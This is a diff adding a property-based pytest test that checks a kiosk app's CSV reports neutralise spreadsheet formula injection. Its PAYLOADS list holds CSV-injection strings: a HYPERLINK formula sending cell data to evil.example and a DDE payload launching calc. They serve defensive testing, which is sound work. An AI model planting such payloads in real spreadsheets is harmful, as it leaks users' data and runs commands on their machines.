@@ -3,13 +3,26 @@ spreadsheet."""
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 import stat
 from datetime import date
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from kiosk.cli import main
+from kiosk.core.door import SceneState
+from kiosk.reports import render
+from kiosk.services import ServiceError, door, reports, roster, scenes
+from kiosk.store.db import connect
+from tests.reliability.conftest import size
+
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet reads as the start of a formula (OWASP)
+PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "=1+2", "+1+2", "-1",
+            "-2+3", "@SUM(A1:A9)", "\t=1+2", "\r=1+2", "=", "-", "'=1+2"]
 
 
 @pytest.fixture
@@ -48,3 +61,65 @@ def test_reports_and_roll_call_are_created_readable_by_their_owner_only(producti
     assert set(modes.values()) == {"0o600"}, modes
     assert not list(tmp_path.glob(".*.part"))
     figures.update(umask="022", files=len(written), modes=sorted(set(modes.values())))
+
+
+def formula_like(text: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
+    """Text as an attacker would type it into a name, a title or a badge: mostly starting like a formula."""
+    return st.one_of(st.sampled_from(PAYLOADS), st.builds(lambda start, rest: start + rest,
+                                                          st.sampled_from(TRIGGERS), text), text)
+
+
+LINE = st.text(st.characters(categories=("L", "N", "P", "S", "Zs")), min_size=1, max_size=40)
+ANY = st.text(st.characters(codec="utf-8"), min_size=1, max_size=40)
+
+
+def cells(data: bytes) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]
+
+
+def test_no_cell_of_a_written_csv_starts_like_a_formula(production_file, tmp_path, figures):
+    """Names, titles, approvers, reasons, scanned input and kiosk ids reach the CSV as text a spreadsheet shows
+    and never runs; the text stays readable (at most a leading ' added)."""
+    path, _ = production_file
+    db = connect(path)
+    seen = {"examples": 0, "refused_on_input": 0, "cells": 0, "quoted": 0}
+
+    def attempt(call, *args, **kwargs) -> bool:
+        try:
+            call(*args, **kwargs)
+            return True
+        except ServiceError:  # refused on input (the text rules): it never reaches a report
+            seen["refused_on_input"] += 1
+            return False
+
+    @settings(max_examples=size("fuzz_examples"), deadline=None, database=None,
+              suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+    @given(name=formula_like(LINE), title=formula_like(LINE), location=formula_like(LINE), by=formula_like(LINE),
+           why=formula_like(LINE), raw=formula_like(ANY), kiosk=formula_like(ANY), bom=st.booleans())
+    def check(name, title, location, by, why, raw, kiosk, bom):
+        seen["examples"] += 1
+        ref = f"s{seen['examples']}"
+        attempt(roster.add_person, db, kiosk, name, "crew", ref=f"p{seen['examples']}")
+        if not attempt(scenes.add_scene, db, ref, title, kiosk, location):
+            scenes.add_scene(db, ref, "Bedroom", kiosk)
+        scenes.set_state(db, ref, SceneState.OPEN, kiosk)
+        if attempt(scenes.approve, db, ref, (f"p{seen['examples']}",), by, kiosk):
+            attempt(door.admit_by_lookup, db, ref, f"p{seen['examples']}", "set", why, kiosk, by=by)
+        door.scan(db, ref, raw, "set", kiosk)
+        out = tmp_path / "scene.csv"
+        render(reports.scene_report(db, ref), out, "csv", bom=bom)
+        written = cells(out.read_bytes())
+        assert not [cell for cell in written if cell.startswith(TRIGGERS)]
+        stored = db.execute("SELECT title FROM scenes WHERE ref = ?", [ref]).fetchone()[0]
+        assert stored in written or "'" + stored in written  # readable: the text itself, at most quoted
+        seen["cells"] += len(written)
+        seen["quoted"] += sum(cell.startswith("'") and not cell.startswith("''") for cell in written)
+
+    check()
+    out = tmp_path / "day.csv"
+    render(reports.day_report(db, date.today()), out, "csv")  # every scene of the run in one file
+    day = cells(out.read_bytes())
+    assert not [cell for cell in day if cell.startswith(TRIGGERS)]
+    db.close()
+    figures.update(examples=seen["examples"], cells_checked=seen["cells"] + len(day), quoted=seen["quoted"],
+                   refused_on_input=seen["refused_on_input"], formula_cells=0)
